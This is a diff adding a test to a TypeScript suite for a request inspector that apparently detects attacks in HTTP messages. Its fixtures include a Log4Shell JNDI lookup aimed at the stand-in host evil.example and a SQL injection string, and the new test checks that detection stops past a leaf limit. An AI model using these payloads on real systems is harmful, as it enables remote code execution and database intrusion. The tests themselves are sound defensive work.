@@ -30,4 +30,21 @@ describe('MessageInspector', () => {
     inspector.inspect(message([bad], [['q', '${jndi:ldap://evil.example/a}']]))
     expect(inspector.inspect(message([bad]))).toMatchObject({ at: 'header:referer' })
   })
+
+  it('looks at every place of a body up to its bound, and no further', () => {
+    const attack = "' or 1=1--"
+    const body = (value: object) => ({
+      path: '/search',
+      query: [],
+      headers: [],
+      content: { kind: 'json', value: value as never } as const,
+    })
+    const inspect = (value: object) => new MessageInspector(defaultDecodeLimits).inspect(body(value))
+    expect(inspect({ data: { items: [{ note: 'plain' }, { note: attack }] } })).toMatchObject({
+      at: 'data.items[].note',
+    })
+    const filler = Array.from({ length: defaultDecodeLimits.leaves - 1 }, () => 'plain')
+    expect(inspect({ filler, last: attack })).toMatchObject({ at: 'last' })
+    expect(inspect({ filler, one: 'more', last: attack })).toBeUndefined()
+  })
 })
